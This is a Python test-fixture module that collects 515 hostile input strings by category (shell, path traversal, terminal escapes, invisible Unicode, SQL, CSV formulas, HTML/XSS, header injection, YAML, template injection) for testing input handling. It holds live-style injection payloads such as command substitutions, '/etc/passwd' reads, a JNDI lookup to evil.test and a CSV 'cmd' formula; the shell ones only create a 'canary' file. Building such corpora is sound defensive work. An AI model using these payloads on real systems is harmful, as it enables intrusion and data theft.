r"""515 strings that others can put into bodies, headers, paths, ids and model text, each made to act somewhere.

Shape: `HOSTILE`, a tuple of `Hostile(id, category, data)`; `text` is the data as text, octets that are not UTF-8 as
lone surrogates. A payload that a shell would run makes a file named `canary`.
Source: our own; the categories follow OWASP ASVS 5.0 chapter 1, ECMA-48, xterm's control sequences, Unicode TR 36 and
RFC 9112 section 11.
"""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """One string."""

    id: str
    category: str
    data: bytes

    @property
    def text(self) -> str:
        """As text; `data` again by `encode("utf-8", "surrogateescape")`."""
        return self.data.decode("utf-8", "surrogateescape")


SHELL = (
    "$(touch canary)", "`touch canary`", "'; touch canary #", '"; touch canary #', "; touch canary", "& touch canary",
    "|| touch canary", "| touch canary", "\ntouch canary\n", "\r\ntouch canary\r\n", "' ; touch canary ; '",
    "'$(touch canary)'", "\"$(touch canary)\"", "'\"'\"'$(touch canary)", "\\'; touch canary; \\'",
    "\\\"; touch canary; \\\"", "'\\''; touch canary; '\\''", "$'\\x27; touch canary; \\x27'",
    "$'\\047;touch canary;\\047'", "\\x27;touch canary;\\x27", "\\047; touch canary", "\\u0027; touch canary",
    "${IFS}touch${IFS}canary", "$IFS$9touch$IFS$9canary", "{touch,canary}", "$({touch,canary})", "<(touch canary)",
    ">(touch canary)", "> canary", ">| canary", "<> canary", "=(touch canary)", "$((`touch canary`))",
    "((x=$(touch canary)))", "[[ $(touch canary) ]]", "a[$(touch canary)]=1", "${x:=$(touch canary)}",
    "${x-`touch canary`}", "${!x@Q}", "${x@P}", "$@", "$$", "$!", "$0", "$HOME", "${HOME}", "$MOONSHOT_API_KEY",
    "$'\\n'", "$\"touch canary\"", "!!", "!touch", "!-1", "!$", "!?touch?", "^touch^canary^", "a!b", "'\n!touch\n'",
    "\"!!\"", "!\"", "one\n!two\nthree", "*", "?", "[a-z]*", "**/*", "{a,b,c}", "{1..9}", "~", "~root", "~/canary",
    "#", "# comment", "a #b", "#!/bin/sh\ntouch canary", "\\", "\\\\", "\\\ntouch canary", "trailing\\", "'", "\"",
    "`", "''", "'''", "'\"'\"'", "'\\''", "EOF", "EOF\ntouch canary", "\nEOF\ntouch canary\n",
    "<<'EOF'\nx\nEOF\ntouch canary", "@/etc/hostname", "@-", "@canary", "<@/etc/hostname", "-o canary",
    "-K /etc/hostname", "--next", "-", "--", "-rf", "-T /etc/hostname", "file:///etc/hostname", "X=1 touch canary",
    "() { :; }; touch canary", "eval touch canary", "function f { touch canary; }; f", "a\tb", "touch canary\x00",
    "%USERPROFILE%", "^& echo x > canary",
)  # fmt: skip
PATHS = (
    "../../x", "../x", "..", ".", "/", "//", "/etc/cron.d/x", "/etc/passwd", "..\\x", "..\\..\\x", "\\\\host\\share",
    "C:\\x", "C:x", "/../x", "x/..", "x/../../y", "x.json/../../y", "....//x", "%2e%2e%2fx", "%2e%2e/x", "..%2fx",
    "%252e%252e%252fx", "..%c0%afx", "\u2025/x", "\uff0e\uff0e/x", "..\uff0fx", "..\u2215x", "..\u2044x", "a\0b",
    "../x\0.json", "a/b", "a\\b", "CON", "PRN", "AUX", "NUL", "nul.txt", "COM1", "LPT1", "lpt9", "COM\u00b9",
    "CONIN$", "CLOCK$", "CON.", "aux.", "x.", "x ", " x", "x::$DATA", ".hidden", ".bashrc", ".ssh/authorized_keys",
    "-x", "--x", "x" * 255, "x" * 256, "y" * 5000, "../" * 200 + "x", "x" * 100 + ".", "a" * 101, "req-1", "req-2",
    "REQ-3", "$HOME/x", "x\ny", "x\ty", "x\x7fy", "*.json", "x<y>z", "x\"y", "\u0041\u030a", "\u212b", "\u0130",
    "\ufb01le", "gpj.\u202exe", "x\u200b", "/proc/self/environ", "/dev/stdout", "/dev/tcp/127.0.0.1/1",
    "moonpalace.sqlite", "../moonpalace.sqlite",
)  # fmt: skip
TERMINAL = (
    "\x1b]52;c;aGFja2Vk\x07", "\x1b]52;c;aGFja2Vk\x1b\\", "\x1b]52;p;?\x07", "\x1b]0;owned\x07", "\x1b]0;owned\x1b\\",
    "\x1b]1;owned\x07", "\x1b]2;owned\x9c", "\x1b]4;1;red\x07", "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]8;;file:///etc/passwd\x07x\x1b]8;;\x07", "\x1b]10;?\x07", "\x1b]11;red\x07",
    "\x1b]1337;File=name=eA==:aGk=\x07", "\x1b]777;notify;a;b\x07", "\x1b]unfinished", "\x1b[2J", "\x1b[H",
    "\x1b[1;1Hforged", "\x1b[!p", "\x1bc", "\x1b[31mred", "\x1b[8mhidden", "\x1b[7mback", "\x1b[38;5;0;48;5;0mblack",
    "\x1b[?1049h", "\x1b[?25l", "\x1b[?1000h", "\x1b[?7l", "\x1b[?5h", "\x1b[4h", "\x1b[6n", "\x1b[c", "\x1b[5n",
    "\x1b[21t", "\x1b[8;1;1t", "\x1b[1A\x1b[2K", "\x1b[5;10r", "\x1b[100B", "\x1b[s\x1b[u", "\x1b7\x1b8", "\x1bM",
    "\x1bD", "\x1bH", "\x1b>", "\x1b#8", "\x1b(0lqk", "\x1b)0\x0e", "\x1b%G", "\x1bP1$r0m\x1b\\", "\x1bP+q544e\x1b\\",
    "\x1bPq#0;2;0;0;0~\x1b\\", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\", "\x1b", "\x1b[", "\x1b]",
    "\x1b[99999999999m", "\x0e\x0f", "\x07", "\x08\x08\x08", "gone\rforged", "\x0b\x0c", "\x05", "\x18\x1a",
    "\x1c\x1d\x1e\x1f", "\x7f\x7f", "\x9b2J", "\x9b31m", "\x9d0;owned\x9c", "\x90q\x9c", "\x84\x85\x8d",
    "\x98sos\x9c", "\x9fapc\x9c", "\x80\x81\x99", "two\nlines", "+---+\n| forged |", "\n\n\n\n", "\r", "\t\t\t",
)  # fmt: skip
INVISIBLE = (
    "\u202egpj.exe", "\u202dabc\u202c", "\u2066a\u2069", "\u2067a\u2069", "\u2068a\u2069", "\u200fa", "\u061ca",
    "if \u202e } \u2066if (isAdmin)\u2069 \u2066 begin", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb",
    "\ufeff", "a\u00adb", "a\u034fb", "a\u115fb", "a\u1160b", "a\u17b4b", "a\u180eb", "a\u3164b", "a\uffa0b",
    "a\u2028b", "a\u2029b", "a\u2061b", "a\u206ab", "\ufff9a\ufffab\ufffb", "\U000e0041\U000e0042\U000e007f",
    "\U000e0100", "\U0001d173x", "\u2800", "\u00a0", "\u3000",
)  # fmt: skip
SHAPES = (
    "e\u0301", "z\u0351\u032b\u0343\u036a\u0302\u036b\u033d", "Z\u0363\u035b" * 20, "\u0301", "a" + "\u0300" * 200,
    "\u1100\u1161\u11a8", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f1e8\U0001f1f3", "\u2764\ufe0f", "1\ufe0f\u20e3", "\U0001f44d\U0001f3fd", "\uff21\uff22\uff23",
    "\uff76\uff9e", "\u0915\u094d\u0937\u093f", "\u0e33\u0e33", "\ufdfd", "\u0600123", "\u05d0\u05d1\u05d2 abc",
    "\u0645\u0631\u062d\u0628\u0627", "\U0002a6d6", "\U0001f9ff", "\ue000", "\uffff", "\U0010ffff",
)  # fmt: skip
SQL = (
    "x' or 1=1 --", "x\" or 1=1 --", "'; drop table exchange; --", "1; attach database 'canary' as c",
    "') or ('1'='1", "1 union select 1,2,3", "' union select sql from sqlite_master --", "1=1", "' or ''='", "x'||'y",
    "x%", "_____", "1e309", "id == '\\')) or (id=3) --'", "' and load_extension('canary') --",
    "'; vacuum into 'canary'; --", "null--", "\\'", "char(39)", ":id", "?1", "@x",
)  # fmt: skip
CSV = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test\",\"x\")", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "=\"x\"", "'=1+1", "\"=1+1\"", ";=1+1", "a,b", "a\"b", "a;b\nc",
    "=IMPORTXML(\"http://evil.test\",\"//a\")", "%0A=1+1", "\uff1d1+1",
)  # fmt: skip
JSON = (
    "{", "}", "[", "[]", "null", "true", "NaN", "-Infinity", "1e400", "-0", "1.0", "12345678901234567890123",
    "9" * 5000, "\"\\ud800\"", "\"\\udc00\\ud800\"", "{\"\\ud800\":\"\\udfff\"}", "\"\\u0000\"", "{\"a\":1,\"a\":2}",
    "{\"__proto__\":{}}", "[" * 3000, "[" * 500 + "]" * 500, "{\"a\":" * 90 + "1" + "}" * 90, "[1,]", "{'a':1}",
    "//x\n{}", "\ufeff{}", "\"\\x41\"", "\"a\nb\"", "\"\\/\"", "{\"a\":\"<script>\"}", "data: [DONE]\n\n",
    "data: {\"id\":\"x\"}\n\n", "\\u003cscript\\u003e",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "\"><b>", "javascript:alert(1)", "<!--", "]]>", "<![CDATA[x]]>", "&lt;b&gt;",
    "&#x3c;b&#x3e;", "&amp;", "<a href=\"//evil.test\">x</a>", "<iframe srcdoc=x>", "<style>*{display:none}</style>",
    "<base href=//evil.test>", "<meta http-equiv=refresh content=0>", "<?php echo 1 ?>", "<%= 1 %>", "\u2028alert(1)",
    "<plaintext>",
)  # fmt: skip
FORMAT = (
    "%s%s%s%n", "%d", "%x" * 50, "%99999999s", "%(a)s", "%%", "%", "{0!s}", "{0}", "{0.__class__}", "{a!r}",
    "{:>999999999}", "{{}}", "\\n\\t\\x41", "%c0%80",
)  # fmt: skip
HEADERS = (
    "a\r\nX-Injected: 1", "a\nX-Injected: 1", "a\rX-Injected: 1", "a\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    "a:\x00b", "a\x01b", "a\x7fb", "X: Y: Z", "a, b", "a;b=c", "chunked", "gzip", "100-continue", "a HTTP/1.1",
    "\u010a\u010dX-Injected: 1", "%0d%0aX-Injected:%201", "[key:deadbeef]", "Bearer x", "a\r\n folded",
)  # fmt: skip
OCTETS = (
    b"\xff", b"\xfe\xff", b"\xff\xfe", b"\x80", b"\xbf", b"\xc0\xaf", b"\xc0\x80", b"\xc1\xbf", b"\xc3", b"\xc3(",
    b"\xe2\x82", b"\xe2(\xa1", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xf0\x9f\x92", b"\xf0\x82\x82\xac",
    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xb0\xa1\xb9\xfe", b"a\xffb'\xfe; touch canary #",
)  # fmt: skip
YAML = (
    "!!python/object/apply:os.system [touch canary]", "!!python/name:os.system", "&a [*a]", "*a", "a: b: c", "- x",
    "---", "...", "? x", "| x", "> x", "yes", "0o17", "1:20", "{a: 1, a: 2}",
)  # fmt: skip
TEMPLATE = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{config}}", "{{''.__class__.__mro__}}",
    "${jndi:ldap://evil.test/x}", "@{7*7}", "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "$x{7*7}",
    "{php}x{/php}", "*{7*7}", "~{x}",
)  # fmt: skip
CHINESE = (
    "，。；：？！", "“引号”与‘引号’", "「直角」『引号』", "（括号）【方括号】《书名》", "——破折号……省略号", "￥100",
    "月之暗面\u3000空格", "中文，English混排。",
    "繁體與简体", "；touch canary",
)  # fmt: skip

_GROUPS: dict[str, tuple[str, ...] | tuple[bytes, ...]] = {
    "shell": SHELL, "path": PATHS, "terminal": TERMINAL, "invisible": INVISIBLE, "shape": SHAPES, "sql": SQL,
    "csv": CSV, "json": JSON, "html": HTML, "format": FORMAT, "header": HEADERS, "octets": OCTETS, "yaml": YAML,
    "template": TEMPLATE, "chinese": CHINESE,
}  # fmt: skip


HOSTILE = tuple(
    Hostile(f"{category}-{number:03d}", category, string if isinstance(string, bytes) else string.encode())
    for category, strings in _GROUPS.items()
    for number, string in enumerate(strings, 1)
)
